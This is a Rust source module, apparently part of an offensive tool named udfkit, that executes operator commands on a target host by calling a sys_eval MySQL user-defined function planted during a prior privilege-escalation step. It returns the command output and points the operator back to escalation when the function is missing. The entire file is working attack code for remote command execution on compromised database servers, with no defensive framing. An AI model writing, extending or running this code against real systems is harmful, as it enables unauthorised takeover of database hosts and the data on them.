//! Command Execution
//!
//! Runs an operator command on the target host by calling the function
//! registered during escalation. Output is always text: failures are rendered
//! into the returned string rather than raised.

use mysql_async::Value;

use super::{value_to_text, UDF_FUNCTION};
use crate::engine::{OutputEncoding, SqlChannel};
use crate::error::UdfkitError;
use crate::events::EventSink;
use crate::statement::quote_string_literal;

/// Returned when the command ran but printed nothing
pub const NO_OUTPUT: &str = "Command completed (no output)";

/// Returned when the target does not have the function registered
pub const ESCALATE_FIRST_HINT: &str =
    "Error: function sys_eval does not exist on the target, run UDF escalation first";

/// `SELECT sys_eval('<command>')` with the command quoted
#[must_use]
pub fn invocation_sql(command: &str) -> String {
    format!("SELECT {UDF_FUNCTION}({}) AS result", quote_string_literal(command))
}

/// Whether a failure means the function is not registered
#[must_use]
pub fn is_undefined_function(err: &UdfkitError) -> bool {
    err.to_string().to_ascii_lowercase().contains("does not exist")
}

pub async fn execute_command<C: SqlChannel>(
    channel: &mut C,
    sink: &dyn EventSink,
    command: &str,
    encoding: OutputEncoding,
) -> String {
    sink.debug(&format!("Executing command: {command}"));

    match channel.query(&invocation_sql(command)).await {
        Ok(result) => match result.first_value(0) {
            Some(Value::Bytes(bytes)) if !bytes.is_empty() => encoding.decode(bytes),
            Some(Value::Bytes(_)) | Some(Value::NULL) | None => NO_OUTPUT.to_string(),
            Some(other) => value_to_text(other).unwrap_or_else(|| NO_OUTPUT.to_string()),
        },
        Err(e) if is_undefined_function(&e) => {
            sink.warn(ESCALATE_FIRST_HINT);
            ESCALATE_FIRST_HINT.to_string()
        }
        Err(e) => {
            let text = format!("Execution failed: {e}");
            sink.error(&text);
            text
        }
    }
}
